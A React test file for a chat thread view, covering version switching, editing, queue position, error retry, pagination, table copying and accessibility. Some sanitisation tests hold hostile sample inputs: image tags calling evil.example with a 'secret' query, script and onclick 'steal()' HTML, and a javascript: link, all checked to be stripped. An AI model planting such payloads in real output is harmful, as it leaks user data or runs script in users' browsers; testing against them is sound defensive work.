import { act, screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { expect, test } from 'vitest';
import { withPage } from '../chat/pages';
import { liveStore, useChat } from '../chat/store';
import { violations } from '../testing/axe';
import { file, logged, message, said, snapshot, text, tool } from '../testing/builders';
import { show } from '../testing/page';
import type { MessagePage, Snapshot } from '../wire/api';
import { Thread } from './Thread';
import { aimAt } from './target';

function LiveThread() {
  const chat = useChat('chat1');
  return chat === undefined ? null : <Thread chatId="chat1" chat={chat} />;
}

async function showThread(over: Partial<Snapshot>, earlier?: MessagePage) {
  const page = show(<LiveThread />, snapshot(over), earlier);
  await page.session.open('chat1');
  const hear = (bodies: Parameters<typeof logged>[0], first = 1) =>
    act(() => page.net.say({ type: 'ev', chat: 'chat1', epoch: 1, events: logged(bodies, first) }));
  return { ...page, hear };
}

const question = said('u', null, 'set B2 to 99');
const answers = [
  message('a1', 'u', { parts: [text('first answer')] }),
  message('a2', 'u', { parts: [text('second answer')] }),
];

test('the messages of the shown branch stand in a log that does not announce each change', async () => {
  await showThread({ messages: [question, ...answers], head_id: 'a2' });
  const log = screen.getByRole('log', { name: 'Conversation' });
  expect(log).toHaveAttribute('aria-live', 'off');
  const shown = within(log).getAllByTestId('message');
  expect(shown.map((row) => row.dataset['role'])).toEqual(['user', 'assistant']);
  expect(await screen.findByText('second answer')).toBeInTheDocument();
  expect(screen.queryByText('first answer')).not.toBeInTheDocument();
});

test('an answer that waits in line says how many come before it, and moves up', async () => {
  const answer = message('a', 'u', { status: 'streaming' });
  const { net, hear } = await showThread({ messages: [question, answer], head_id: 'a' });
  const place = (before: number) => {
    const data = { message_id: 'a', text: '', unit: 'before', done: before, total: before };
    act(() => net.say({ type: 'eph', chat: 'chat1', kind: 'progress', data }));
  };
  expect(screen.queryByText(/In line/)).not.toBeInTheDocument();
  place(3);
  expect(screen.getByText('In line: 3 before you.')).toBeInTheDocument();
  expect(await violations(document.body)).toEqual([]);
  place(0);
  expect(screen.getByText('In line: you are next.')).toBeInTheDocument();
  hear([{ type: 'part.added', message_id: 'a', index: 0, part: text('Hello') }]);
  expect(screen.queryByText(/In line/)).not.toBeInTheDocument();
});

test('the switcher counts the versions and asks for the other one', async () => {
  const { net } = await showThread({ messages: [question, ...answers], head_id: 'a2' });
  expect(screen.getByRole('img', { name: 'Version 2 of 2' })).toHaveTextContent('2/2');
  await userEvent.click(screen.getByRole('button', { name: 'Previous version' }));
  expect(net.sent('select_branch')).toMatchObject([{ chat: 'chat1', message_id: 'a1' }]);
});

test('an edited message is sent beside the old one, with its files', async () => {
  const part = {
    type: 'file',
    file_id: 'f1',
    version: 1,
    name: 'a.xlsx',
    kind: 'xlsx',
    mime: 'x',
    size: 1,
  } as const;
  const asked = message('u2', 'a2', { role: 'user', parts: [part, text('set B2 to 9')] });
  const messages = [question, ...answers, asked, message('a3', 'u2', { parts: [text('done')] })];
  const { net } = await showThread({ messages, head_id: 'a3' });
  const [, row] = screen.getAllByRole('article', { name: 'You said' });
  await userEvent.click(within(row as HTMLElement).getByRole('button', { name: 'Edit' }));
  const box = screen.getByRole('textbox', { name: 'Edit the message' });
  expect(box).toHaveFocus();
  await userEvent.type(box, '9{Enter}');
  await waitFor(() =>
    expect(net.sent('send')).toMatchObject([{ parent_id: 'a2', text: 'set B2 to 99', file_ids: ['f1'] }]),
  );
  expect(screen.queryByText('done')).not.toBeInTheDocument();
  expect(screen.getByText('Sending…')).toBeInTheDocument();
});

test('Esc leaves a message as it was', async () => {
  const { net } = await showThread({ messages: [question, ...answers], head_id: 'a2' });
  await userEvent.click(screen.getByRole('button', { name: 'Edit' }));
  await userEvent.type(screen.getByRole('textbox'), 'no{Escape}');
  expect(screen.getByText('set B2 to 99')).toBeInTheDocument();
  expect(net.sent('send')).toEqual([]);
});

test('generating and its end are said once', async () => {
  const { hear } = await showThread({ messages: [question], head_id: 'u' });
  hear([{ type: 'turn.started', turn_id: 't', parent_id: 'u' }]);
  expect(screen.getByRole('status')).toHaveTextContent('Generating');
  hear([{ type: 'turn.finished', turn_id: 't', status: 'done' }], 2);
  expect(screen.getByRole('status')).toHaveTextContent('Complete');
});

test('an error stands in the broken answer with a way to try again', async () => {
  const { hear, net } = await showThread({ messages: [question], head_id: 'u' });
  hear([
    { type: 'turn.started', turn_id: 't', parent_id: 'u' },
    { type: 'message.created', message: message('a', 'u', { status: 'error', parts: [text('so far')] }) },
    {
      type: 'turn.finished',
      turn_id: 't',
      status: 'failed',
      error: { code: 'cut', message: 'The line was cut.', retryable: true },
    },
  ]);
  expect(await screen.findByText('so far')).toBeInTheDocument();
  expect(screen.getByRole('alert')).toHaveTextContent('The line was cut.');
  await userEvent.click(screen.getByRole('button', { name: 'Try again' }));
  expect(net.sent('regenerate')).toMatchObject([{ message_id: 'a' }]);
});

test('a turn that failed before it said anything shows its error beneath the question', async () => {
  const { hear, net } = await showThread({ messages: [question], head_id: 'u' });
  const error = { code: 'bad_key', message: 'The key was refused.', retryable: true };
  hear([
    { type: 'turn.started', turn_id: 't', parent_id: 'u' },
    { type: 'turn.finished', turn_id: 't', status: 'failed', error },
  ]);
  expect(screen.getByRole('alert')).toHaveTextContent('The key was refused.');
  await userEvent.click(screen.getByRole('button', { name: 'Try again' }));
  expect(net.sent('regenerate')).toMatchObject([{ message_id: 'u' }]);
});

test('no picture from outside is ever asked for, in markdown or in HTML', async () => {
  const hostile =
    '![pixel](https://evil.example/p.png?q=secret) <img src="https://evil.example/x.png"> end\n\n' +
    '<picture><source srcset="https://evil.example/y.png"><img src="https://evil.example/z.png"></picture>';
  const answer = message('a', 'u', { parts: [text(hostile)] });
  const { container } = await showThread({ messages: [question, answer], head_id: 'a' });
  expect(await screen.findByText('Image not loaded: pixel')).toBeInTheDocument();
  expect(container.querySelector('img')).toBeNull();
});

test('HTML that does no harm keeps its words, what would act is gone', async () => {
  const html =
    '<div onclick="steal()">kept <b>bold</b></div>\n\n<script>steal()</script>\n\n<iframe src="/"></iframe> after';
  const answer = message('a', 'u', { parts: [text(html)] });
  const { container } = await showThread({ messages: [question, answer], head_id: 'a' });
  expect(await screen.findByText('bold')).toBeInTheDocument();
  expect(screen.getByText(/kept/)).toBeInTheDocument();
  expect(container.querySelector('script, iframe, [onclick]')).toBeNull();
});

test('a link that would run script has no address', async () => {
  const answer = message('a', 'u', { parts: [text('[click](javascript:alert(1)) now')] });
  const { container } = await showThread({ messages: [question, answer], head_id: 'a' });
  await screen.findByText(/now/);
  expect(container.innerHTML).not.toContain('javascript:');
});

test('the messages above those that are held come on asking, and the way to more goes with the first', async () => {
  const page = { messages: [said('m0', null, 'the very first'), message('m1', 'm0')], branches: {} };
  await showThread({ messages: [said('m2', 'm1', 'later')], head_id: 'm2' }, page);
  expect(screen.getAllByTestId('message')).toHaveLength(1);
  await userEvent.click(await screen.findByRole('button', { name: 'Show earlier messages' }));
  expect(screen.getAllByTestId('message')).toHaveLength(3);
  expect(screen.queryByRole('button', { name: 'Show earlier messages' })).not.toBeInTheDocument();
});

test('a message far up is reached without all that stands below it, which comes on asking', async () => {
  const all = Array.from({ length: 200 }, (_, index) =>
    said(`m${index}`, index === 0 ? null : `m${index - 1}`, `words ${index}`),
  );
  const stored = { messages: all.slice(140), head_id: 'm199' };
  const { chat } = await showThread(stored);
  await waitFor(() => expect(screen.getAllByTestId('message')).toHaveLength(60));
  const page = { messages: all.slice(0, 140), branches: {} };
  await act(async () => {
    liveStore.setState({ chats: { chat1: withPage(chat, page) } });
    aimAt('chat1', 'm50');
  });
  const ids = () => screen.getAllByTestId('message').map((row) => row.dataset['id']);
  expect([ids()[0], ids().at(-1)]).toEqual(['m30', 'm89']);
  await userEvent.click(screen.getByRole('button', { name: 'Show later messages' }));
  await userEvent.click(screen.getByRole('button', { name: 'Show earlier messages' }));
  expect([ids()[0], ids().at(-1)]).toEqual(['m0', 'm149']);
  await userEvent.click(screen.getByRole('button', { name: /latest/ }));
  expect([ids()[0], ids().at(-1)]).toEqual(['m140', 'm199']);
});

test('a version that is not held is counted and asked for by its id', async () => {
  const { net } = await showThread({
    messages: [said('u', null, 'hi'), message('a2', 'u')],
    branches: { u: ['a1', 'a2'] },
    head_id: 'a2',
  });
  expect(screen.getByRole('img', { name: 'Version 2 of 2' })).toBeInTheDocument();
  await userEvent.click(screen.getByRole('button', { name: 'Previous version' }));
  expect(net.sent('select_branch')).toMatchObject([{ message_id: 'a1' }]);
});

test('another model is asked for an answer beside the one there is', async () => {
  const { net } = await showThread({ messages: [question, ...answers], head_id: 'a2' });
  await userEvent.click(screen.getByRole('button', { name: 'Answer again with another model' }));
  await userEvent.click(screen.getByRole('menuitem', { name: 'Big model' }));
  expect(net.sent('regenerate')).toMatchObject([{ message_id: 'a2', model: 'big' }]);
});

test('answers beside one another say which model gave them, and a demo is called what it is', async () => {
  const other = message('a3', 'u', { parts: [text('third')], model: 'demo-1' });
  await showThread({ messages: [question, ...answers, other], head_id: 'a3' });
  expect(screen.getByText('Demo without AI')).toBeInTheDocument();
});

test('a table is copied as a spreadsheet takes it', async () => {
  const user = userEvent.setup();
  const table = '| Item | Sum |\n|---|---|\n| **Paper** | 1,200 |\n| Pens | `3` |';
  await showThread({ messages: [question, message('a', 'u', { parts: [text(table)] })], head_id: 'a' });
  await user.click(await screen.findByRole('button', { name: 'Copy the table' }));
  expect(await navigator.clipboard.readText()).toBe('Item\tSum\nPaper\t1,200\nPens\t3');
});

test('axe finds nothing in a thread with every kind of part', async () => {
  const parts = [
    { type: 'thinking', text: 'hm', ms: 3200 } as const,
    tool(),
    text('# Done\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```json\n{"a": 1}\n```\n\n- [x] checked'),
    { type: 'notice', kind: 'unsupported_claim', text: '' } as const,
  ];
  const answer = message('a', 'u', { parts });
  const { container } = await showThread({ messages: [question, answer], head_id: 'a', files: [file()] });
  await screen.findByRole('heading', { name: 'Done' });
  expect(await violations(container)).toEqual([]);
});
